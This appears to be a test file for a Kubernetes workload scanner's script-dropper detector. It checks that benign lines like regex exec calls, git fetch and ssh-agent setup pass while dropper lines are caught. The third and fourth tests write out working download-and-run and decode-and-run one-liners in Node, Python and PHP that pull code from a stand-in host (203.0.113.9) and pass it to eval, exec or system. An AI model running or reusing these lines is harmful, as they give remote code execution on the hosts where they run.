// Ordinary programs a pod runs, inline or from a mounted ConfigMap: a refusal or a warning here
// breaks a rollout. A one-liner reader that sees "executes" and "fetches or decodes" on one line
// must not take a regular expression's `.exec(`, a `git fetch` or an `eval $(ssh-agent -s)` for
// a dropper; the droppers those words were added for stay caught beside them.
import t from 'tap'
import { findScriptDroppers } from '../../src/detect/script-droppers.ts'
import { compileSignalScanner, type Signal } from '../../src/detect/signals.ts'
import { evaluate } from '../../src/engine/evaluate.ts'
import type { KubeObject, V1Container } from '../../src/workloads/kubernetes.ts'
import { defaultPolicies } from '../helpers/server.ts'
import { defaultSignalData } from '../helpers/signal-data.ts'

const policySet = await defaultPolicies()
const gatedScanner = compileSignalScanner(await defaultSignalData())
const ungatedScanner = compileSignalScanner(await defaultSignalData(), { ungated: true })

function minerVerdicts(container: Partial<V1Container>, file?: [string, string]): { action: string; message: string }[] {
  const mounts = file === undefined ? {} : { volumeMounts: [{ name: 'app', mountPath: '/app' }] }
  const object = {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'p', namespace: 'ns' },
    spec: { containers: [{ name: 'c', image: 'node:22-slim', ...mounts, ...container }], volumes: [{ name: 'app', configMap: { name: 'app' } }] },
  }
  const related: KubeObject[] =
    file === undefined ? [] : [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'app', namespace: 'ns' }, data: { [file[0]]: file[1] } } as KubeObject]
  return evaluate({ object, related }, policySet)
    .findings.filter((finding) => finding.policy === 'miner-signals')
    .map(({ action, message }) => ({ action, message }))
}

function dropperKinds(text: string): string[] {
  const kinds: string[] = []
  findScriptDroppers(text, (kind) => kinds.push(kind))
  return kinds
}

const signals = (scan: typeof gatedScanner, text: string) => {
  const found: Signal[] = []
  scan([{ field: 'command[2]', text }], found)
  return found
}

// A JWT read in one line: a regular expression's exec, atob and fetch. Minified bundles put a whole program on one line.
const JWT_LINE = 'const claims = (t) => JSON.parse(atob(t.split(".")[1])); const m = /^Bearer (.+)$/.exec(h); fetch("/api/me").then((r) => r.json())'
const BUNDLE_LINE = 'var e=/([a-z]+)=(\\d+)/g,t;for(;(t=e.exec(s))!==null;)o[t[1]]=+t[2];const u=Buffer.from(k,"base64").toString();fetch(a).then(r=>r.text())'

t.test('a Node program whose regular expression exec sits beside atob or a base64 Buffer is admitted, inline and mounted', async (t) => {
  for (const line of [JWT_LINE, BUNDLE_LINE]) {
    t.same(dropperKinds(line), [], line)
    t.same(minerVerdicts({ command: ['node', '-e', line] }), [], `node -e ${line}`)
    t.same(minerVerdicts({ command: ['node', '/app/app.js'] }, ['app.js', `${line}\n`]), [], `mounted ${line}`)
  }
})

t.test('an entrypoint that starts ssh-agent with eval and runs git fetch is admitted beside a download into /tmp', async (t) => {
  const script = [
    '#!/bin/sh',
    'set -eu',
    'eval $(ssh-agent -s); ssh-add /keys/id_ed25519; git fetch origin && git reset --hard origin/main',
    'curl -fsSL -o /tmp/app.tgz https://artifacts.example.com/app.tgz',
    'exec node /srv/index.js',
  ].join('\n')
  t.same(dropperKinds(script), [])
  t.same(minerVerdicts({ command: ['sh', '/app/run.sh'] }, ['run.sh', script]), [])
  t.same(minerVerdicts({ command: ['sh', '-c', script] }), [])
})

t.test('what runs child_process, builtins or a fetched text is still a dropper beside those exemptions', async (t) => {
  for (const [line, kind] of [
    ['require("child_process").exec(atob(p))', 'decode-to-shell'],
    ['const cp=require("child_process");cp.exec(Buffer.from(p,"base64").toString())', 'decode-to-shell'],
    ['const {exec}=require("node:child_process");fetch("http://203.0.113.9/x").then(r=>r.text()).then(exec)', 'download-to-shell'],
    ['fetch`http://203.0.113.9/x`.then(r=>r.text()).then(eval)', 'download-to-shell'],
    ['fetch ("http://203.0.113.9/x").then(r=>r.text()).then(t=>eval(t))', 'download-to-shell'],
    ['import builtins,base64; builtins.exec(base64.b64decode(p))', 'decode-to-shell'],
    ['__import__("builtins").exec(__import__("urllib.request").request.urlopen(u).read())', 'download-to-shell'],
  ] as const) {
    t.same(dropperKinds(line), [kind], line)
    t.same(signals(gatedScanner, line), signals(ungatedScanner, line), `gated and ungated agree on ${line}`)
  }
})

t.test('a wait-for-port check that connects a socket and reads nothing from it is admitted beside a download into /tmp', async (t) => {
  const script = [
    '#!/bin/sh',
    'curl -fsSL -o /tmp/cfg.json https://config.example.com/cfg.json',
    `node -e 'require("net").connect(5432, "db").on("connect", () => require("child_process").exec("touch /tmp/ready"))'`,
    `python3 -c 'import socket, os; socket.create_connection(("db", 5432), 2); os.system("touch /tmp/ready")'`,
    'exec node /srv/index.js',
  ].join('\n')
  t.same(dropperKinds(script), [])
  t.same(minerVerdicts({ command: ['sh', '/app/run.sh'] }, ['run.sh', script]), [])
  // What is read from the socket is what runs: the same lines reading it are droppers.
  t.same(dropperKinds(`node -e 'require("net").connect(80, "203.0.113.9").on("data", (d) => require("child_process").exec(String(d)))'`), ['download-to-shell'])
  t.same(dropperKinds(`python3 -c 'import socket, os; s = socket.create_connection(("203.0.113.9", 80)); os.system(s.recv(4096))'`), ['download-to-shell'])
  t.same(dropperKinds(`php -r '$f = fsockopen("203.0.113.9", 80); system(stream_get_contents($f));'`), ['download-to-shell'])
})
